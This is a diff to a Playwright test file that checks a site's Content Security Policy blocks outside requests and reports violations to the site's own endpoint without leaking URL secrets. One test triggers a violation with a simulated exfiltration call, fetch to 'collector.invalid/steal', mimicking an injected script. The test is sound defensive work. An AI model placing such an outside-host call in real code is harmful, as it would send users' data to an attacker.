@@ -27,12 +27,37 @@ test.describe('hosting and privacy', () => {
 
   test('pages load nothing from other hosts, and the CSP blocks nothing of ours', async ({ page }) => {
     const hosts = new Set<string>();
-    page.on('request', (request) => hosts.add(new URL(request.url()).origin));
+    const reports: string[] = [];
+    page.on('request', (request) => {
+      hosts.add(new URL(request.url()).origin);
+      if (new URL(request.url()).pathname === '/api/report') reports.push(request.postData() ?? '');
+    });
     for (const path of ['/zh-TW/order/place', '/en-US/help', '/zh-CN/waiting-verification']) {
       await page.goto(path);
       await page.waitForLoadState('networkidle');
     }
     expect([...hosts].filter((origin) => origin !== E2E_SITE_ORIGIN && origin !== E2E_SANDBOX_ORIGIN)).toEqual([]);
+    // Every violation of a page's policy is reported (below): none was.
+    expect(reports).toEqual([]);
+  });
+
+  test("a violation of the page's meta policy is reported to the site's own origin, without the address's secrets", async ({ page }) => {
+    await page.goto('/en-US/help#uuid=1&hmac=secret-part');
+    const report = page.waitForRequest((request) => new URL(request.url()).pathname === '/api/report');
+    // A request the policy does not allow, as an injected script's would be.
+    await page.evaluate(() => fetch('https://collector.invalid/steal').catch(() => undefined));
+    const sent = await report;
+    expect(new URL(sent.url()).origin).toBe(E2E_SITE_ORIGIN);
+    const body = sent.postData() ?? '';
+    expect(body).not.toContain('secret-part');
+    expect(JSON.parse(body)).toEqual([
+      expect.objectContaining({
+        type: 'csp-violation',
+        body: expect.objectContaining({ documentURL: `${E2E_SITE_ORIGIN}/en-US/help`, blockedURL: 'https://collector.invalid/steal', effectiveDirective: 'connect-src' }),
+      }),
+    ]);
+    // The site's endpoint takes it (204), as it takes a browser's own reports.
+    expect((await sent.response())?.status()).toBe(204);
   });
 
   test('pinch zoom is allowed and the page has its landmarks', async ({ page }) => {
